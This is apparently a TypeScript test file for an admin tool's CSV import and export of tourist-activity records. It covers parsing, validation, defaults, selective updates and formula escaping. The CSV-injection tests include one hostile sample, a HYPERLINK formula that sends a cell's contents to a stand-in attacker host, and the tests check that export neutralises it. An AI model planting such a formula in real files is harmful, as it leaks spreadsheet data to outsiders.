// The CSV import rules of admin §5 'CSV import', each from the spec's own wording, and the export's row shape.
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import {
  chosenColumns,
  CSV_COLUMNS,
  CSV_EXPORT_START,
  CSV_MESSAGES,
  csvRow,
  csvText,
  decodeCsv,
  detectDelimiter,
  exportFileName,
  fileAddresses,
  fileColumns,
  parseCsv,
  parseCsvId,
  parseCsvRating,
  parseCsvReviewCount,
  planImport,
  REQUIRED_CSV_COLUMNS,
  slugKey,
  splitTags,
  type CsvFile,
  type ImportContext,
  unescapeFormula,
} from "./activity-csv";
import { selectiveUpdate } from "./activity-form";
import type { GooglePhotoColumn, StoredActivity } from "./activity-record";
import { DEFAULT_ACTIVITY_IMAGE } from "./photos";
import { titleSlug } from "../taxonomy/slug";

const HEADER = "title,excerpt,latitude,longitude,category,cityId";

function file(text: string): CsvFile {
  const parsed = parseCsv(text);
  if (!parsed.ok) throw new Error(parsed.message);
  return parsed.file;
}

const STORED: Omit<StoredActivity, "id" | GooglePhotoColumn> = {
  slug: "ryman-auditorium",
  title: "Ryman Auditorium",
  excerpt: "The Mother Church of Country Music.",
  image: "https://example.com/ryman.jpg",
  latitude: 36.16,
  longitude: -86.78,
  cityId: "nashville",
  category: "Museums",
  tags: ["Music"],
  country: "United States",
  state: "Tennessee",
  address: "116 Rep. John Lewis Way N",
  website: "https://ryman.com",
  phoneNumber: "+1 615-889-3060",
  googleMapsUrl: null,
  touristyLevel: "Very Touristy",
  cost: "Medium",
  duration: "1-2 hours",
  photoSource: "original",
  customPhotoUrl: null,
  metaTitle: null,
  metaDescription: null,
  googleRating: 4.8,
  googleReviewCount: 12000,
};

function context(extra: Partial<ImportContext> = {}): ImportContext {
  return {
    choices: { categories: ["Museums", "Parks"], tags: ["Music", "Historic"], cityIds: ["nashville", "austin"] },
    stored: new Map([[7, STORED]]),
    taken: new Map([[slugKey("nashville", "ryman-auditorium"), 7]]),
    ...extra,
  };
}

const ALL = [...CSV_COLUMNS];

describe("the file", () => {
  it("needs a header plus at least one data row", () => {
    expect(parseCsv("")).toEqual({ ok: false, message: "CSV file must contain headers and at least one data row" });
    expect(parseCsv(`${HEADER}\n`)).toEqual({ ok: false, message: CSV_MESSAGES.tooFewRows });
    expect(parseCsv(`${HEADER}\n\n\n`)).toEqual({ ok: false, message: CSV_MESSAGES.tooFewRows });
  });

  it("lists the missing required columns", () => {
    expect(parseCsv("title,excerpt,category\na,b,Parks")).toEqual({
      ok: false,
      message: "Missing required columns for import: latitude, longitude, cityId",
    });
  });

  it("refuses more rows than the limit, saying how many it has", () => {
    const rows = Array.from({ length: 50_001 }, () => "a,b,1,2,Parks,nashville").join("\n");
    const result = parseCsv(`${HEADER}\n${rows}`);
    expect(result).toEqual({ ok: false, message: CSV_MESSAGES.tooManyRows(50_001) });
    expect(CSV_MESSAGES.tooManyRows(50_001)).toContain("50,001");
  });

  it("reads a BOM, CRLF line ends and quoted newlines, and gives each row the line it starts on", () => {
    const parsed = file(
      `\uFEFF${HEADER}\r\n"Two\r\nlines","say ""hi"", then go",1,2,Parks,nashville\r\n\r\nc,d,3,4,Parks,austin`,
    );
    expect(parsed.headers).toEqual([...REQUIRED_CSV_COLUMNS]);
    expect(parsed.rows).toEqual([
      { line: 2, cells: ["Two\r\nlines", 'say "hi", then go', "1", "2", "Parks", "nashville"] },
      { line: 5, cells: ["c", "d", "3", "4", "Parks", "austin"] },
    ]);
  });

  it("reads semicolon-delimited files (spreadsheet programs in many locales write them)", () => {
    expect(detectDelimiter("title;excerpt;latitude\n")).toBe(";");
    expect(detectDelimiter("title,excerpt,tags\na,b,x;y;z")).toBe(",");
    const parsed = file(
      "title;excerpt;latitude;longitude;category;cityId;tags\nA, with comma;B;1,5;2;Parks;nashville;x",
    );
    expect(parsed.rows[0]!.cells).toEqual(["A, with comma", "B", "1,5", "2", "Parks", "nashville", "x"]);
  });

  it("refuses a file that is not UTF-8 with a clear message", () => {
    const latin1 = new Uint8Array([0x74, 0x69, 0x74, 0x6c, 0x65, 0x0a, 0x43, 0x61, 0x66, 0xe9]);
    expect(decodeCsv(latin1)).toEqual({ ok: false, message: CSV_MESSAGES.notUtf8 });
    const utf16 = new Uint8Array([0x74, 0x00, 0x69, 0x00]);
    expect(decodeCsv(utf16)).toEqual({ ok: false, message: CSV_MESSAGES.notUtf8 });
    expect(decodeCsv(new TextEncoder().encode("\uFEFFCafé 🎉"))).toEqual({ ok: true, text: "Café 🎉" });
  });
});

describe("columns", () => {
  it("always imports the required six, which cannot be deselected", () => {
    const headers = [...REQUIRED_CSV_COLUMNS, "id", "tags", "unknown"];
    expect(fileColumns(headers)).toEqual({ required: [...REQUIRED_CSV_COLUMNS], optional: ["id", "tags"] });
    expect(chosenColumns(headers, ["tags"])).toEqual({ ok: true, columns: [...REQUIRED_CSV_COLUMNS, "tags"] });
  });

  it("needs at least one selected column", () => {
    expect(chosenColumns([...REQUIRED_CSV_COLUMNS], [])).toEqual({ ok: false, message: CSV_MESSAGES.columnsRequired });
  });
});

describe("cells", () => {
  it("splits tags on ';'", () => {
    expect(splitTags("Music; Historic;;")).toEqual(["Music", "Historic"]);
    expect(splitTags("")).toEqual([]);
  });

  it("parses googleRating as a decimal and googleReviewCount as an integer; invalid values become null", () => {
    expect(parseCsvRating("4.5")).toBe(4.5);
    expect(parseCsvRating("great")).toBeNull();
    expect(parseCsvRating("")).toBeNull();
    expect(parseCsvReviewCount("1200")).toBe(1200);
    expect(parseCsvReviewCount("12.5")).toBeNull();
    expect(parseCsvReviewCount("many")).toBeNull();
  });

  it("parses id as an integer, else drops it", () => {
    expect(parseCsvId("12")).toBe(12);
    expect(parseCsvId(" 12 ")).toBe(12);
    expect(parseCsvId("abc")).toBeUndefined();
    expect(parseCsvId("1.5")).toBeUndefined();
    expect(parseCsvId("")).toBeUndefined();
  });
});

describe("rows", () => {
  it("skips rows whose field count differs from the header", () => {
    const plan = planImport(file(`${HEADER}\na,b,1,2,Parks\nc,d,1,2,Parks,nashville,extra`), ALL, context());
    expect(plan.skipped).toEqual([
      { line: 2, reason: "Has 5 fields; the header has 6" },
      { line: 3, reason: "Has 7 fields; the header has 6" },
    ]);
  });

  it("skips rows without title or excerpt, and rows with non-numeric latitude or longitude", () => {
    const plan = planImport(
      file(
        `${HEADER}\n,b,1,2,Parks,nashville\na, ,1,2,Parks,nashville\nc,d,north,2,Parks,nashville\ne,f,1,,Parks,nashville`,
      ),
      ALL,
      context(),
    );
    expect(plan.skipped.map((s) => s.reason)).toEqual([
      CSV_MESSAGES.titleOrExcerptMissing,
      CSV_MESSAGES.titleOrExcerptMissing,
      CSV_MESSAGES.coordinatesNotNumeric,
      CSV_MESSAGES.coordinatesNotNumeric,
    ]);
    expect(plan.creates).toEqual([]);
  });

  it("skips a row with an unknown cityId or category, saying which", () => {
    const plan = planImport(file(`${HEADER}\na,b,1,2,Parks,paris\nc,d,1,2,Zoos,nashville`), ALL, context());
    expect(plan.skipped).toEqual([
      { line: 2, reason: CSV_MESSAGES.unknownCity("paris") },
      { line: 3, reason: CSV_MESSAGES.unknownCategory("Zoos") },
    ]);
  });

  it("gives empty cells the defaults: stock photo, 'Not available', United States, Tennessee", () => {
    const plan = planImport(
      file(
        `${HEADER},image,touristyLevel,cost,duration,country,state\nNew place,Nice,36.1,-86.7,Parks,nashville,,,,,,`,
      ),
      ALL,
      context(),
    );
    expect(plan.skipped).toEqual([]);
    expect(plan.creates[0]!.values).toMatchObject({
      image: DEFAULT_ACTIVITY_IMAGE,
      touristyLevel: "Not available",
      cost: "Not available",
      duration: "Not available",
      country: "United States",
      state: "Tennessee",
    });
    // Columns the file does not have take the same defaults.
    const bare = planImport(file(`${HEADER}\nOther place,Nice,36.1,-86.7,Parks,nashville`), ALL, context());
    expect(bare.creates[0]!.values).toMatchObject({ image: DEFAULT_ACTIVITY_IMAGE, country: "United States" });
  });

  it("rows without id create; an id that is not an integer is dropped, so the row creates", () => {
    const plan = planImport(
      file(
        `id,${HEADER},tags,googleRating,googleReviewCount\n,A,b,1,2,Parks,nashville,Music;Historic,4.5,oops\nx,B,b,1,2,Parks,nashville,,,`,
      ),
      ALL,
      context(),
    );
    expect(plan.skipped).toEqual([]);
    expect(plan.creates.map((c) => [c.line, c.values.title, c.values.tags, c.values.googleRating])).toEqual([
      [2, "A", ["Music", "Historic"], 4.5],
      [3, "B", [], null],
    ]);
    expect(plan.creates[0]!.values.googleReviewCount).toBeNull();
  });

  it("rows with id update only the selected columns; unselected columns keep their stored values", () => {
    const text = `id,${HEADER},website,cost\n7,Ryman,New words,36.2,-86.7,Museums,nashville,https://new.example,Free`;
    const plan = planImport(file(text), [...REQUIRED_CSV_COLUMNS, "id", "cost"], context());
    expect(plan.updates).toEqual([
      {
        line: 2,
        id: 7,
        values: {
          title: "Ryman",
          excerpt: "New words",
          latitude: 36.2,
          longitude: -86.7,
          category: "Museums",
          cityId: "nashville",
          cost: "Free",
        },
      },
    ]);
    expect(plan.columns).not.toContain("website");
  });

  it("reports a row whose id names no activity instead of creating it", () => {
    const plan = planImport(file(`id,${HEADER}\n99,A,b,1,2,Parks,nashville`), ALL, context());
    expect(plan.skipped).toEqual([{ line: 2, reason: CSV_MESSAGES.idNotFound(99) }]);
    expect(plan.creates).toEqual([]);
  });

  it("skips a row whose title another activity of the city already has (they would share one address)", () => {
    const plan = planImport(
      file(`${HEADER}\nRyman Auditorium,b,1,2,Parks,nashville\nTwice,b,1,2,Parks,austin\nTwice,b,1,2,Parks,austin`),
      ALL,
      context(),
    );
    expect(plan.skipped).toEqual([
      { line: 2, reason: CSV_MESSAGES.duplicateTitle("Ryman Auditorium") },
      { line: 4, reason: CSV_MESSAGES.duplicateTitle("Twice") },
    ]);
    expect(plan.creates).toHaveLength(1);
  });

  it("skips a row that breaks a rule of the form, with the form's message", () => {
    const plan = planImport(
      file(`${HEADER},tags\nA,b,95,2,Parks,nashville,\nB,b,1,2,Parks,nashville,Jazz`),
      ALL,
      context(),
    );
    expect(plan.skipped).toEqual([
      { line: 2, reason: "Latitude must be a number between -90 and 90" },
      { line: 3, reason: "Choose tags from the list" },
    ]);
  });

  it("keeps a row whose phone, website, Google Maps URL, address or state looks wrong, as given (Data Quality flags it)", () => {
    const plan = planImport(
      file(
        `${HEADER},phoneNumber,website,googleMapsUrl,address,country,state\n` +
          `Odd One,b,1,2,Parks,nashville,123,not a site,maps please,??,Canada,Tennessee`,
      ),
      ALL,
      context(),
    );
    expect(plan.skipped).toEqual([]);
    expect(plan.creates[0]!.values).toMatchObject({
      phoneNumber: "123",
      website: "not a site",
      googleMapsUrl: "maps please",
      address: "??",
      country: "Canada",
      state: "Tennessee",
    });
  });
});

describe("the addresses a file's rows take", () => {
  it("are each (cityId, title slug) once, as the schema trims them", () => {
    const parsed = file(
      `${HEADER}\n Café Nine ,b,1,2,Parks, nashville\ncafe nine,b,1,2,Parks,nashville\nX,b,1,2,Parks,austin`,
    );
    expect(fileAddresses(parsed)).toEqual({ cityIds: ["nashville", "austin"], slugs: ["cafe-nine", "x"] });
  });
});

describe("selective update", () => {
  const choices = context().choices;

  it("checks the chosen columns with the form's rules and leaves the others out", () => {
    expect(selectiveUpdate(STORED, { cost: "Free", title: "ignored" }, ["cost"], choices)).toEqual({
      ok: true,
      values: { cost: "Free" },
    });
    expect(selectiveUpdate(STORED, { cost: "Cheap" }, ["cost"], choices)).toEqual({
      ok: false,
      errors: { cost: ["Choose a value from the list"] },
    });
  });

  it("answers for a state a changed country requires", () => {
    const result = selectiveUpdate({ ...STORED, state: "" }, { country: "France" }, ["country"], choices);
    expect(result.ok).toBe(false);
    expect(!result.ok && Object.keys(result.errors)).toContain("state");
    // A state off the new country's list is kept as given.
    expect(selectiveUpdate(STORED, { country: "Canada" }, ["country"], choices)).toEqual({
      ok: true,
      values: { country: "Canada" },
    });
  });

  it("does not let a stored value today's rules refuse block another column", () => {
    const legacy = { ...STORED, phoneNumber: "not a phone" };
    expect(selectiveUpdate(legacy, { cost: "Low" }, ["cost"], choices)).toEqual({ ok: true, values: { cost: "Low" } });
  });
});

describe("export", () => {
  it("writes every importable column in order, tags as 'a;b', RFC 4180 quoting, a BOM and a dated name", () => {
    expect(CSV_EXPORT_START).toBe(`\uFEFF${CSV_COLUMNS.join(",")}\r\n`);
    const row = csvRow({ ...STORED, id: 7, title: 'Say "hi", then\ngo', tags: ["Music", "Historic"] });
    expect(row).toHaveLength(CSV_COLUMNS.length);
    expect(row[CSV_COLUMNS.indexOf("tags")]).toBe("Music;Historic");
    expect(row[CSV_COLUMNS.indexOf("googleMapsUrl")]).toBe("");
    const text = csvText([row]);
    expect(text.startsWith('7,"Say ""hi"", then\ngo",')).toBe(true);
    expect(text.endsWith("\r\n")).toBe(true);
    expect(Papa.parse<string[]>(text.trimEnd(), { delimiter: "," }).data[0]!.map(unescapeFormula)).toEqual(row);
    expect(exportFileName(new Date("2026-11-23T15:00:00Z"))).toBe("activities-2026-11-23.csv");
  });
});

describe("formulas (CSV injection)", () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
    "-5 things",
    "+1 then more",
    "@SUM(A1:A9)",
    "'=already quoted",
    "''-twice",
    "'Round Midnight",
    "Plain title",
  ];

  it("writes a cell a spreadsheet would run with a leading ', and plain numbers as they are", () => {
    const row = csvRow({ ...STORED, id: 7, title: hostile[0]!, excerpt: "-5 things", phoneNumber: "+1 615-889-3060" });
    const cells = Papa.parse<string[]>(csvText([row]).trimEnd()).data[0]!;
    expect(cells[CSV_COLUMNS.indexOf("title")]).toBe(`'${hostile[0]}`);
    expect(cells[CSV_COLUMNS.indexOf("excerpt")]).toBe("'-5 things");
    expect(cells[CSV_COLUMNS.indexOf("phoneNumber")]).toBe("'+1 615-889-3060");
    expect(cells[CSV_COLUMNS.indexOf("longitude")]).toBe("-86.78");
    expect(csvText([["-86.78", "+5", ".5", "-", "=", "'Round Midnight"]])).toBe(
      `-86.78,+5,.5,"'-","'=",'Round Midnight\r\n`,
    );
  });

  it("reads back exactly what was exported: export then import changes nothing", () => {
    const stored = new Map(
      hostile.map((title, i) => [
        i + 1,
        { ...STORED, slug: titleSlug(title), title, excerpt: title, longitude: -86.78 },
      ]),
    );
    const exported = CSV_EXPORT_START + csvText([...stored].map(([id, a]) => csvRow({ ...a, id })));
    const parsed = parseCsv(exported);
    expect(parsed.ok).toBe(true);
    const plan = planImport(parsed.ok ? parsed.file : { headers: [], rows: [] }, ALL, {
      ...context(),
      stored,
      taken: new Map([...stored].map(([id, a]) => [slugKey(a.cityId, a.slug), id])),
    });
    expect(plan.skipped).toEqual([]);
    expect(plan.updates.map((u) => [u.values.title, u.values.excerpt, u.values.longitude])).toEqual(
      hostile.map((title) => [title, title, -86.78]),
    );
    for (const u of plan.updates) expect(u.values.phoneNumber).toBe("+1 615-889-3060");
  });

  it("removes only the one ' the export adds", () => {
    expect(unescapeFormula("'=1+1")).toBe("=1+1");
    expect(unescapeFormula("''=1+1")).toBe("'=1+1");
    expect(unescapeFormula("'-86.78")).toBe("-86.78");
    expect(unescapeFormula("'Round Midnight")).toBe("'Round Midnight");
    expect(unescapeFormula("'")).toBe("'");
    expect(unescapeFormula("'5")).toBe("'5");
  });
});
